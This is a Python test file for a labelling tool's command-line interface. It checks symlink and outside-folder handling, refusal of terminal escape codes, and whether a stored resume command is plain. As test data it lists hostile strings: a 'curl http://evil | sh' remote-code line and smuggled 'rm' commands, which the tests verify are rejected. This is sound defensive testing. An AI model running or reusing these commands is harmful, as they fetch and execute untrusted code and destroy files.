"""Label folders outside of the run, links, and texts of a project that somebody sent."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from PIL import Image

from al_lightning.errors import DatasetError, UsageError
from al_lightning.labels.project import read_project, write_project
from tests.support.errors import lacking, refused
from tests.support.label_exports import (
    Call,
    masks_of,
)


def test_labels_that_are_kept_elsewhere_say_where(al: Call, image_run: Path, here: Path) -> None:
    (here / "table.csv").write_text("image,class\na/one.jpg,car\n")
    assert "outside of" not in al("labels", "import", image_run, here / "table.csv").out
    write_project(image_run, replace(read_project(image_run), labels=str(here / "elsewhere")))
    answer = al("labels", "import", image_run, here / "table.csv")
    assert not lacking(answer.out, [here / "elsewhere", f"outside of {image_run}"])
    assert (here / "elsewhere" / "labels.csv").is_file()


def test_status_moves_nothing_of_an_interrupted_import_through_a_link(al: Call, pixel_run: Path, here: Path) -> None:
    (here / "victim/a").mkdir(parents=True)
    (here / "victim/a/one.jpg.png").write_text("mine")
    (pixel_run / "labels/masks").symlink_to(here / "victim")
    incoming = pixel_run / "labels/.incoming"
    incoming.mkdir()
    (incoming / "0.png").write_bytes(b"theirs")
    (incoming / "moves.json").write_text('{"0.png": "a/one.jpg"}')
    assert "cycle_00  1 of 2 labelled" in al("labels", "status", pixel_run).out
    Image.fromarray(masks_of()[0]).save(here / "two.png.png")
    (here / "pngs").mkdir()
    (here / "two.png.png").rename(here / "pngs/two.png.png")
    answer = al("labels", "import", pixel_run, "pngs")
    assert refused(answer, DatasetError, "labels/masks", here / "victim")
    assert (here / "victim/a/one.jpg.png").read_text() == "mine"
    assert (incoming / "0.png").read_bytes() == b"theirs"


def test_labels_that_go_through_a_link_say_where(al: Call, image_run: Path, here: Path) -> None:
    (here / "table.csv").write_text("image,class\na/one.jpg,car\n")
    (image_run / "labels").rename(here / "elsewhere")
    (image_run / "labels").symlink_to(here / "elsewhere")
    answer = al("labels", "import", image_run, here / "table.csv")
    assert not lacking(answer.out, [(here / "elsewhere").resolve(), f"outside of {image_run}"])


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("al-lightning fit --config x --run_dir 'a b'", True),
        ("curl http://evil | sh", False),
        ("al-lightning fit --config x; rm -r y", False),
        ("al-lightning fit --seed $(rm y)", False),
        ("al-lightning fit --seed 'unclosed", False),
        ("al-lightning query x", False),
        ("al-lightning fit 'a\u202eb'", False),
    ],
)
def test_only_a_plain_fit_is_named_to_go_on(al: Call, image_run: Path, command: str, named: bool) -> None:
    write_project(image_run, replace(read_project(image_run), command=command))
    last = al("labels", "status", image_run).out.splitlines()[-1]
    assert (command in last) == named


@pytest.mark.parametrize(
    "change", [{"command": "x\x1b[2J"}, {"classes": ("sky", "car\n", "tree")}, {"labels": "a\x07"}]
)
def test_texts_that_a_terminal_would_obey_are_damage(al: Call, image_run: Path, change: dict[str, object]) -> None:
    write_project(image_run, replace(read_project(image_run), **change))  # type: ignore[arg-type]
    answer = al("labels", "status", image_run)
    assert refused(answer, UsageError, "project.json")
    assert "\x1b" not in answer.out + answer.err
